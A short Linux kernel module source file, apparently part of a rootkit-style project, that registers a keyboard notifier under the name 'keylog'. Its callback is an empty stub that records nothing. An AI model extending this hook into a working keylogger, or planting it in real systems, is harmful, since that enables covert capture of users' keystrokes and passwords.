// SPDX-License-Identifier: GPL-2.0-only
/* Is told of each key, by the keyboard's notifier. */
#include <linux/keyboard.h>
#include <linux/notifier.h>

#include "rk.h"

static int notified(struct notifier_block *block, unsigned long action, void *data)
{
	return NOTIFY_OK;
}

static struct notifier_block block = {
	.notifier_call = notified,
};

static int on(void)
{
	return register_keyboard_notifier(&block);
}

static void off(void)
{
	unregister_keyboard_notifier(&block);
}

RK_MODULE(keylog, on, off);
